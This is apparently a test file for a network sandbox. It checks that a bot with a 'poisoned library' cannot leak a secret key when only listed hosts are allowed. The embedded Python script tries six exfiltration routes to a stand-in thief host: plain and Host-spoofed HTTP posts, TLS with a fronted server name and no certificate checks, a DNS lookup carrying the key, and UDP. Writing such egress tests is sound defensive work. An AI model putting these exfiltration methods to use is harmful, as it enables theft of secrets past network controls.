import { afterAll, beforeAll, expect, test } from "vitest";
import { addresses, names } from "./ways.ts";
import { describeInWorld, openWorld, type World } from "./world/world.ts";

const key = "c2VjcmV0LWtleQ";
const rounds = 4;

/**
 * A bot with a poisoned library: each order is also sent, with the key, to a host of the thief, by its name and its address,
 * over HTTP, TLS, UDP and in the name of a question.
 */
const poisoned = `
import socket, ssl, urllib.request
key, thief = "${key}", "${addresses.other}"

def post(url, **headers):
    request = urllib.request.Request(url, data=f"key={key}".encode(), headers=headers)
    return urllib.request.urlopen(request, timeout=5).read()

def hidden(address):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with context.wrap_socket(socket.create_connection((address, 443), 5), server_hostname="${names.listed}") as s:
        s.sendall(f"POST / HTTP/1.1\\r\\nHost: ${names.listed}\\r\\nKey: {key}\\r\\n\\r\\n".encode())
        s.recv(100)

def datagram(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(key.encode(), (thief, port))

ways = [
    lambda: post("http://${names.other}/collect"),
    lambda: post(f"http://{thief}/collect"),
    lambda: post(f"http://{thief}/collect", Host="${names.listed}"),
    lambda: hidden(thief),
    lambda: socket.gethostbyname(f"{key}.${names.other}"),
    lambda: datagram(443),
]
for n in range(${rounds}):
    for way in ways:
        try: way()
        except OSError: pass
    print(post("http://${names.listed}:8080/order").decode())
`;

describeInWorld("a poisoned library", () => {
  let world: World;
  beforeAll(async () => {
    world = await openWorld([names.listed, names.other]);
    await world.names({ [names.listed]: [addresses.listed], [names.other]: [addresses.other] });
    await world.listen(addresses.listed, 8080, "tcp");
    await world.listen(addresses.other, 80, "tcp");
    await world.listen(addresses.other, 443, "tls");
    await world.listenToDatagrams(addresses.other, 443);
    await world.bot("poisoned", { hosts: [{ name: names.listed, port: 8080 }], local: [] });
  });
  afterAll(() => world[Symbol.asyncDispose]());

  /** Runs the bot, and returns how often the key has reached the thief. */
  async function stolen(run: (argv: string[]) => ReturnType<World["run"]>): Promise<number> {
    const heardBefore = (await world.heard()).length;
    const askedBefore = (await world.asked()).length;
    expect(await run(["python3", "-c", poisoned])).toMatchObject({ code: 0, stdout: "ok\n".repeat(rounds) });
    const heard = (await world.heard()).slice(heardBefore);
    const asked = (await world.asked()).slice(askedBefore);
    expect(heard.filter(({ address }) => address === addresses.listed)).toHaveLength(rounds);
    const taken = heard.filter(({ address, text }) => address === addresses.other && text.includes(key));
    return taken.length + asked.filter((question) => question.startsWith(`A ${key}`)).length;
  }

  test("a poisoned library that sends the key in six ways gets it out of no network with a list", async () => {
    // With the network of the host every one arrives, so that the program does what it says.
    expect(await stolen((argv) => world.runOutside(argv))).toBe(6 * rounds);
    expect(await stolen((argv) => world.run("poisoned", argv))).toBe(0);
  });
});
